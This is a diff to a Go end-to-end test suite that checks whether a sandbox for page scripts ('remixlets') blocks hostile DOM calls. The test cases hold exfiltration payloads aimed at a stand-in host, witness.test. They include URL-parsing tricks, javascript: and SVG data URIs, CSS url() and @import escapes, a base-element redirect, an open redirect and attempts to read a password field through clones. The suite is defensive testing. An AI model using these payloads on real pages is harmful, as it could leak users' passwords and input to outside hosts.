@@ -93,10 +93,19 @@ var hostilePageCases = []hostileCase{
 	{name: "string setInterval", body: `setInterval('fetch("https://witness.test/si")', 10); await new Promise((r) => setTimeout(r, 50));`, wantLog: `refused: setInterval with a string`},
 	{name: "Reflect.construct Function", body: `Reflect.construct(Function, ['return this'])().fetch('https://witness.test/rc');`, wantLog: `Function constructor is not available|is not a constructor`},
 	{name: "require", body: `require('net');`, wantLog: `require is not defined`},
-	// DOM routes to the witness: attributes that load or run something.
-	{name: "setAttr img src", body: `await dom.setAttr(await dom.query('#img'), 'src', 'https://witness.test/src');`, wantLog: `refused: dom.setAttr: attribute src refused`},
-	{name: "setAttr img SRC protocol-relative", body: `await dom.setAttr(await dom.query('#img'), 'SRC', '//witness.test/src2');`, wantLog: `refused: dom.setAttr: attribute src refused`},
-	{name: "setAttr a href", body: `await dom.setAttr(await dom.query('#link'), 'href', 'http://witness.test/href');`, wantLog: `refused: dom.setAttr: attribute href refused`},
+	// DOM routes to the witness: attributes that load or run something, and addresses.
+	{name: "setAttr img src", body: `await dom.setAttr(await dom.query('#img'), 'src', 'https://witness.test/src');`, wantLog: `refused: dom.setAttr: attribute src refused: https://witness.test/src is not on the page's origin`},
+	{name: "setAttr img SRC protocol-relative", body: `await dom.setAttr(await dom.query('#img'), 'SRC', '//witness.test/src2');`, wantLog: `refused: dom.setAttr: attribute src refused: https://witness.test/src2 is not`},
+	{name: "setAttr img src slash-backslash", body: `await dom.setAttr(await dom.query('#img'), 'src', '/\\witness.test/src3');`, wantLog: `refused: dom.setAttr: attribute src refused: https://witness.test/src3 is not`},
+	{name: "setAttr img src backslashes and tabs", body: `await dom.setAttr(await dom.query('#img'), 'src', ' \\\\wit\tness.test\\src4');`, wantLog: `refused: dom.setAttr: attribute src refused: https://witness.test/src4 is not`},
+	{name: "setAttr img src scheme without slashes", body: `await dom.setAttr(await dom.query('#img'), 'src', 'https:witness.test/src5');`, wantLog: `refused: dom.setAttr: attribute src refused: the address is not a full http\(s\) address`},
+	{name: "setAttr img src user name", body: `await dom.setAttr(await dom.query('#img'), 'src', 'https://target.test@witness.test/src6');`, wantLog: `refused: dom.setAttr: attribute src refused: addresses with a user name`},
+	{name: "setAttr img src look-alike host", body: `await dom.setAttr(await dom.query('#img'), 'src', 'https://target.test.witness.test/src7');`, wantLog: `refused: dom.setAttr: attribute src refused: https://target.test.witness.test/src7 is not`},
+	{name: "setAttr img src svg data", body: `await dom.setAttr(await dom.query('#img'), 'src', 'data:image/svg+xml,<svg/onload=fetch(1)>');`, wantLog: `refused: dom.setAttr: attribute src refused: only data:image/png`},
+	{name: "setAttr a href", body: `await dom.setAttr(await dom.query('#link'), 'href', 'http://witness.test/href');`, wantLog: `refused: dom.setAttr: attribute href refused: http://witness.test/href is not`},
+	{name: "setAttr a href javascript", body: `await dom.setAttr(await dom.query('#link'), 'href', 'java\nscript:fetch("https://witness.test/js")');`, wantLog: `refused: dom.setAttr: attribute href refused: javascript: addresses are not allowed`},
+	{name: "setAttr a href blob", body: `await dom.setAttr(await dom.query('#link'), 'href', 'blob:https://target.test/1234');`, wantLog: `refused: dom.setAttr: attribute href refused: blob: addresses are not allowed`},
+	{name: "setAttr img href", body: `await dom.setAttr(await dom.query('#img'), 'href', '/ok');`, wantLog: `refused: dom.setAttr: attribute href refused: only links`},
 	{name: "setAttr img srcset", body: `await dom.setAttr(await dom.query('#img'), 'srcset', 'https://witness.test/srcset 1x');`, wantLog: `refused: dom.setAttr: attribute srcset refused`},
 	{name: "setAttr style", body: `await dom.setAttr(await dom.query('#box'), 'style', 'background: url(https://witness.test/styleattr)');`, wantLog: `refused: dom.setAttr: attribute style refused`},
 	{name: "setAttr onclick", body: `await dom.setAttr(await dom.query('#btn'), 'onclick', 'fetch("https://witness.test/onclick")');`, wantLog: `refused: dom.setAttr: attribute onclick refused`},
@@ -105,6 +114,38 @@ var hostilePageCases = []hostileCase{
 	{name: "setAttr formaction", body: `await dom.setAttr(await dom.query('#sub'), 'formaction', 'https://witness.test/formaction');`, wantLog: `refused: dom.setAttr: attribute formaction refused`},
 	{name: "setAttr video poster", body: `await dom.setAttr(await dom.query('#video'), 'poster', 'https://witness.test/poster');`, wantLog: `refused: dom.setAttr: attribute poster refused`},
 	{name: "setAttr a ping", body: `await dom.setAttr(await dom.query('#link'), 'ping', 'https://witness.test/ping');`, wantLog: `refused: dom.setAttr: attribute ping refused`},
+	{name: "setAttr svg fill url", body: `await dom.setAttr(await dom.query('#circle'), 'fill', 'url(https://witness.test/fill#p)');`, wantLog: `refused: dom.setAttr: attribute fill refused`},
+	{name: "setAttr script type", body: `await dom.setAttr(await dom.query('#tpl'), 'type', 'text/javascript');`, wantLog: `refused: dom.setAttr: the attributes of script elements cannot be set`},
+	// dom.create.
+	{name: "create img src witness", body: `await dom.insert(await dom.query('#box'), await dom.create({ tag: 'img', attrs: { src: 'https://witness.test/create' } }));`, wantLog: `refused: dom.create: attribute src refused: https://witness.test/create is not`},
+	{name: "create link protocol-relative", body: `await dom.create({ tag: 'a', attrs: { href: '//witness.test/createlink' } });`, wantLog: `refused: dom.create: attribute href refused: https://witness.test/createlink is not`},
+	{name: "create script", body: `await dom.create({ tag: 'script', text: 'fetch("https://witness.test/cs")' });`, wantLog: `refused: dom.create: element <script> refused`},
+	{name: "create nested iframe", body: `await dom.create({ tag: 'div', children: [{ tag: 'iframe', attrs: { srcdoc: '<img src=https://witness.test/ifr>' } }] });`, wantLog: `refused: dom.create: element <iframe> refused`},
+	{name: "create base", body: `await dom.create({ tag: 'base', attrs: { href: 'https://witness.test/' } });`, wantLog: `refused: dom.create: element <base> refused`},
+	{name: "create svg image", body: `await dom.create({ tag: 'svg', children: [{ tag: 'image', attrs: { href: 'https://witness.test/svgimage' } }] });`, wantLog: `refused: dom.create: element <image> refused`},
+	{name: "create img srcset", body: `await dom.create({ tag: 'img', attrs: { srcset: 'https://witness.test/createsrcset 1x' } });`, wantLog: `refused: dom.create: <img> attribute srcset refused`},
+	{name: "create input image", body: `await dom.create({ tag: 'input', attrs: { type: 'image', src: 'https://witness.test/inputimage' } });`, wantLog: `refused: dom.create: <input type="image"> refused|attribute src refused`},
+	// dom.setHTML: what is left out is logged.
+	{name: "setHTML", body: `await dom.setHTML(await dom.query('#box'), '<img src="https://witness.test/sethtml"><img srcset="https://witness.test/sethtml2 1x"><svg><image href="https://witness.test/sethtml3"/><use href="https://witness.test/sethtml4#x"/></svg><p style="background:url(https://witness.test/sethtml5)">p</p><a href="//witness.test/sethtml6" ping="https://witness.test/ping2">a</a><form action="https://witness.test/sethtml7"><button>b</button></form>');`, wantLog: `refused: dom.setHTML: left out .*sethtml`},
+	{name: "setHTML on script", body: `await dom.setHTML(await dom.query('#tpl'), '<img src=x>');`, wantLog: `refused: dom.setHTML: the content of script elements cannot be set`},
+	// dom.addStyle: the same checks as style.css.
+	{name: "addStyle url", body: `await dom.addStyle('body { background: url(https://witness.test/addstyle) }');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
+	{name: "addStyle escaped url", body: `await dom.addStyle('body { background: \\75rl(https://witness.test/addstyle2) }');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
+	{name: "addStyle comment import", body: `await dom.addStyle('@im/**/port "https://witness.test/addstyle3.css"; @\\69mport "https://witness.test/addstyle4.css";');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
+	{name: "addStyle font-face", body: `await dom.addStyle('@font-face { font-family: x; src: url(https://witness.test/font.woff) } body { font-family: x }');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
+	{name: "addStyle image-set and custom property", body: `await dom.addStyle('h1 { --bg: url(https://witness.test/var); background: var(--bg) } h2 { background: image-set("https://witness.test/is.png" 1x) }');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
+	{name: "addStyle value selector", body: `await dom.addStyle('input[value^="h"] { background: url(https://target.test/leak-h) }');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
+	// dom.click: checked against what it would activate.
+	{name: "click link to witness", body: `await dom.click(await dom.query('#wlink'));`, wantLog: `refused: dom.click: dom.click refused: the link goes to https://witness.test/clicked`},
+	{name: "click inside link to witness", body: `await dom.click(await dom.query('#wlink span'));`, wantLog: `refused: dom.click: dom.click refused: the link goes to https://witness.test/clicked`},
+	{name: "click link new window", body: `await dom.click(await dom.query('#blank'));`, wantLog: `refused: dom.click: dom.click refused: the a opens in target "_blank"`},
+	{name: "click submit to witness", body: `await dom.click(await dom.query('#wsub'));`, wantLog: `refused: dom.click: dom.click refused: the form is sent to https://witness.test/submit`},
+	{name: "click label of submit to witness", body: `await dom.click(await dom.query('#wlbl'));`, wantLog: `refused: dom.click: dom.click refused: the form is sent to https://witness.test/submit`},
+	{name: "click button of unknown type (a submit button)", body: `await dom.click(await dom.query('#wsub2'));`, wantLog: `refused: dom.click: dom.click refused: the form is sent to https://witness.test/submit`},
+	{name: "click formaction", body: `await dom.click(await dom.query('#fab'));`, wantLog: `refused: dom.click: dom.click refused: the button has a formaction`},
+	// Moving and cloning.
+	{name: "insert script", body: `await dom.insert(await dom.query('#box'), await dom.query('#tpl'));`, wantLog: `refused: dom.insert: elements that load or run something`},
+	{name: "clone form", body: `await dom.clone(await dom.query('#form'), true);`, wantLog: `refused: dom.clone: <form> elements cannot be cloned`},
 	// Inline styles.
 	{name: "setStyle url", body: `await dom.setStyle(await dom.query('#box'), { background: 'url(https://witness.test/a)' });`, wantLog: `refused: dom.setStyle: style background refused: inline styles may not contain url\(`},
 	{name: "setStyle escaped \\75rl", body: `await dom.setStyle(await dom.query('#box'), { background: '\\75rl(https://witness.test/b)' });`, wantLog: `refused: dom.setStyle: style background refused: CSS escapes`},
@@ -122,13 +163,14 @@ var hostilePageCases = []hostileCase{
 	{name: "addClass url(", body: `await dom.addClass(await dom.query('#box'), 'url(https://witness.test/k)');
 await dom.addClass(await dom.query('#box'), '"><img/src=https://witness.test/l>');
 await dom.addClass(await dom.query('#box'), "x')url(//witness.test/m)");`},
-	// The rest of the dom surface is refused as not available yet (no allow-lists behind it).
-	{name: "setHTML", body: `await dom.setHTML(await dom.query('#box'), '<img src="https://witness.test/sethtml">');`, wantLog: `refused: dom.setHTML: is not available yet`},
-	{name: "create", body: `await dom.create({ tag: 'img', attrs: { src: 'https://witness.test/create' } });`, wantLog: `refused: dom.create: is not available yet`},
-	{name: "addStyle", body: `await dom.addStyle('body { background: url(https://witness.test/addstyle) }');`, wantLog: `refused: dom.addStyle: is not available yet`},
-	{name: "click", body: `await dom.click(await dom.query('#sub'));`, wantLog: `refused: dom.click: is not available yet`},
-	{name: "clone", body: `await dom.clone(await dom.query('#form'), true);`, wantLog: `refused: dom.clone: is not available yet`},
 	// Reading the password.
+	{name: "clone of password", storage: true, report: true, body: `const c = await dom.clone(await dom.query('#pw'));
+const l = (await dom.queryAll('#form label'))[1];
+const lc = await dom.clone(l, true);
+await dom.insert(await dom.query('#box'), c, 'after');
+await dom.insert(await dom.query('#box'), lc, 'after');
+const v = await dom.value(c) + '|' + await dom.attr(c, 'value') + '|' + await dom.value(await dom.query('input', lc)) + '|' + await dom.text(lc);
+await rmx.storage.set('read', v); rmx.log('read', JSON.stringify(v));`},
 	{name: "value of password", storage: true, report: true, body: `const v = await dom.value(await dom.query('#pw'));
 await rmx.storage.set('read', v); rmx.log('read', JSON.stringify(v));`},
 	{name: "attr value of password", storage: true, report: true, body: `const v = await dom.attr(await dom.query('#pw'), 'VALUE');
@@ -165,6 +207,20 @@ await dom.on(body, 'keydown', report('body'));
 await dom.on(user, 'input', report('user'));`},
 }
 
+// hostileBaseCases run side by side on /based, a page whose <base> element points at the
+// witness: relative addresses a remixlet writes would go there if they were resolved like the
+// page's own, so they are refused; absolute ones on the page's origin still work. /based also
+// has a redirect on the page's origin to the witness.
+var hostileBaseCases = []hostileCase{
+	{name: "relative src under a base", body: `await dom.setAttr(await dom.query('#img'), 'src', 'pic.png');`, wantLog: `refused: dom.setAttr: attribute src refused: the page has a <base> element`},
+	{name: "root-relative href under a base", body: `await dom.setAttr(await dom.query('#link'), 'href', '/ok');`, wantLog: `refused: dom.setAttr: attribute href refused: the page has a <base> element`},
+	{name: "create relative under a base", body: `await dom.insert(await dom.query('#box'), await dom.create({ tag: 'img', attrs: { src: 'created.png' } }));`, wantLog: `refused: dom.create: attribute src refused: the page has a <base> element`},
+	{name: "setHTML relative under a base", body: `await dom.setHTML(await dom.query('#box'), '<img src="sethtml.png"><a href="x">x</a>');`, wantLog: `refused: dom.setHTML: left out .*<base> element`},
+	{name: "setHTML base element", body: `await dom.setHTML(await dom.query('#box2'), '<base href="https://witness.test/b2/"><img src="b2.png">');`, wantLog: `refused: dom.setHTML: left out .*<base>`},
+	{name: "absolute on the page's origin", body: `await dom.setAttr(await dom.query('#img2'), 'src', 'https://target.test/pic.png'); rmx.log('absolute ok');`, wantLog: `absolute ok`},
+	{name: "redirect through the page's origin", body: `await dom.setAttr(await dom.query('#img3'), 'src', 'https://target.test/redirect?to=https://witness.test/redirected'); rmx.log('redirect set');`, wantLog: `refused: https://target.test/redirect\?to=\S+ redirects to https://witness.test/redirected`},
+}
+
 // hostileLimitCases run side by side on /limits, each stopped by the runtime's limits.
 var hostileLimitCases = []hostileCase{
 	{name: "endless loop", body: `await dom.setText(st, 'started'); while (true) {}`, wantLog: `stopped: .*budget`},
@@ -194,6 +250,9 @@ func remixletTargetSite() http.Handler {
 		if strings.HasPrefix(r.URL.Path, "/limits/") {
 			n = 1
 		}
+		if r.URL.Path == "/based" {
+			n = len(hostileBaseCases)
+		}
 		for i := range n {
 			fmt.Fprintf(&status, "<p class=st id=s-%d></p>\n", i)
 		}
@@ -202,9 +261,16 @@ func remixletTargetSite() http.Handler {
 			htmlPage(w, `<!doctype html>
 <html><head><meta charset="utf-8"><title>Hostile</title><style id="sty">h1 { color: black }</style></head>
 <body><h1>Hostile</h1>
+<link rel="icon" href="data:,">
 <img id="img" alt="pic"> <a id="link">link</a> <div id="box">box</div> <button id="btn" type="button">b</button>
 <video id="video"></video>
-<svg width="1" height="1"><style id="svgsty">circle { fill: red }</style></svg>
+<svg width="1" height="1"><style id="svgsty">circle { fill: red }</style><circle id="circle" r="1"></circle></svg>
+<script id="tpl" type="text/x-template">fetch('https://witness.test/template')</script>
+<a id="wlink" href="https://witness.test/clicked"><span>witness link</span></a>
+<a id="blank" href="/same" target="_blank">new window</a>
+<form id="wform" action="https://witness.test/submit"><input name="q" value="x"><button id="wsub">send</button><button id="wsub2" type="Button ">odd type</button></form>
+<label id="wlbl" for="wsub">send label</label>
+<form id="form2" action="/ok"><button id="fab" formaction="https://witness.test/fa">fa</button></form>
 <form id="form" action="/submit" onsubmit="return false">
 <label>user <input id="user" name="user" value="alice"></label>
 <label>password <input id="pw" type="password" name="pw" value="hunter2"></label>
@@ -218,6 +284,18 @@ func remixletTargetSite() http.Handler {
 			htmlPage(w, `<!doctype html>
 <html><head><meta charset="utf-8"><title>Limits</title></head>
 <body><h1>Limits</h1><p id="benign">benign not run</p>
+`+status.String()+`
+<script>document.body.dataset.pageScript = 'ran';</script>
+</body></html>`)
+		case "/pic.png":
+			w.Header().Set("Content-Type", "image/png")
+			w.Write(onePixelPNG)
+		case "/redirect":
+			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
+		case "/based":
+			htmlPage(w, `<!doctype html>
+<html><head><meta charset="utf-8"><title>Based</title><link rel="icon" href="https://target.test/favicon.ico"><base href="https://witness.test/base/"></head>
+<body><h1>Based</h1><img id="img" alt="1"><img id="img2" alt="2"><img id="img3" alt="3"><a id="link">link</a><div id="box"></div><div id="box2"></div>
 `+status.String()+`
 <script>document.body.dataset.pageScript = 'ran';</script>
 </body></html>`)
@@ -339,6 +417,11 @@ func TestHostileRemixletsCannotReachTheWitnessOrReadPasswords(t *testing.T) {
 		t.Fatalf("not every hostile remixlet finished: %v\n%s", err, strings.Join(missing, "\n"))
 	}
 
+	// Clones of the password field are blank; the field itself is untouched.
+	if v := e2etest.Eval[string](tab, `[...document.querySelectorAll('input[type=password]')].map((e) => e.id + '=' + e.value + '/' + e.getAttribute('value')).join(' ')`); strings.Count(v, "hunter2") != 2 || !strings.Contains(v, "pw=hunter2/hunter2") || strings.Count(v, "=") < 4 {
+		t.Errorf("password fields after the clone case: %s (want the original with its value and blank clones)", v)
+	}
+
 	// Type a password into #pw2 (and a control text into #user) while the key-event remixlet
 	// listens.
 	ctx, cancel := context.WithTimeout(tab.Context(), 15*time.Second)
@@ -421,6 +504,35 @@ func TestHostileRemixletsCannotReachTheWitnessOrReadPasswords(t *testing.T) {
 	// page a moment more, then check.
 	time.Sleep(500 * time.Millisecond)
 	h.checkNoWitness("after the hostile remixlets ran on /main")
+	if t.Failed() {
+		return
+	}
+	h.checkWitnessReachable()
+}
+
+func TestHostileRemixletAddressesOnABasePage(t *testing.T) {
+	h := startHostile(t)
+	rxs := h.add(hostileBaseCases, "https://target.test/based*")
+	tab := h.tab
+	tab.Navigate("https://target.test/based")
+	tab.WaitConnected()
+	allDone := fmt.Sprintf(`[...document.querySelectorAll('p.st')].filter((e) => e.textContent === 'done').length === %d`, len(hostileBaseCases))
+	if err := waitTrue(tab, 20*time.Second, allDone); err != nil {
+		t.Fatalf("not every remixlet finished: %v\n%s", err, h.diagnose(rxs[0]))
+	}
+	for i, c := range hostileBaseCases {
+		if log, ok := h.waitLog(rxs[i], regexp.MustCompile(c.wantLog), 5*time.Second); !ok {
+			t.Errorf("%s: the remixlet's log does not match %q:\n%s", c.name, c.wantLog, log)
+		}
+	}
+	if err := waitTrue(tab, 5*time.Second, `document.getElementById('img2').complete && document.getElementById('img2').naturalWidth === 1`); err != nil {
+		t.Errorf("the absolute address on the page's origin did not load: %v", err)
+	}
+	if n := e2etest.Eval[int](tab, `document.querySelectorAll('base').length`); n != 1 {
+		t.Errorf("%d base elements in the page, want the page's own 1", n)
+	}
+	time.Sleep(500 * time.Millisecond)
+	h.checkNoWitness("after the remixlets ran on /based")
 	if t.Failed() {
 		return
 	}
